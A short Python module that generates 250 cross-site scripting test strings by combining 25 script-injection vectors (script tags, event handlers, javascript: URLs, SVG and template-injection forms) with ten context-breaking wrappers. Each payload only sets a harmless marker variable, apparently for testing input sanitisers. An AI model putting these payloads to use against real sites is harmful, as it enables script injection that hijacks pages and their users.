"""Two hundred and fifty ways to have a script run where a name or a sentence is expected."""

from __future__ import annotations

from itertools import product

CALL = "globalThis.pwned=1"
# What runs, given a place to stand in.
VECTORS = (
    f"<script>{CALL}</script>",
    f"<ScRiPt\t>{CALL}</sCrIpT >",
    f"<script src=data:text/javascript,{CALL}></script>",
    f"<img src=x onerror={CALL}>",
    f"<img/src=x/onerror={CALL}//",
    f"<svg onload={CALL}>",
    f"<svg><animate onbegin={CALL} attributeName=x dur=1s>",
    f"<svg><script>{CALL}</script></svg>",
    f"<math><mtext><img src=x onerror={CALL}></mtext></math>",
    f"<iframe srcdoc='<script>parent.{CALL}</script>'></iframe>",
    f"<iframe src=javascript:parent.{CALL}></iframe>",
    f"<video><source onerror={CALL}></video>",
    f"<audio src=x onerror={CALL}></audio>",
    f"<body onload={CALL}>",
    f"<details open ontoggle={CALL}>x</details>",
    f"<input autofocus onfocus={CALL}>",
    f"<object data=javascript:{CALL}></object>",
    f"<a href=javascript:{CALL}>x</a>",
    f"<link rel=stylesheet href=x onerror={CALL}>",
    f"<style onload={CALL}>*{{}}</style>",
    f"<template shadowrootmode=open><script>{CALL}</script></template>",
    f"javascript:{CALL}",
    f"${{{CALL}}}",
    f"{{{{constructor.constructor('{CALL}')()}}}}",
    f"&lt;script&gt;{CALL}&lt;/script&gt;",
)
# What closes whatever stands around it, before and after.
SURROUNDINGS = (
    ("", ""),
    ('">', ""),
    ("'>", ""),
    ("</script>", "<script>"),
    ("</title></style></textarea>", ""),
    ("-->", "<!--"),
    ("]]>", ""),
    ('"};', ";({'"),
    ("\u2028", "\u2029"),
    ("\\u003c/script\\u003e\\", "\\"),
)
ATTACKS = [f"{before}{vector}{after}" for (before, after), vector in product(SURROUNDINGS, VECTORS)]
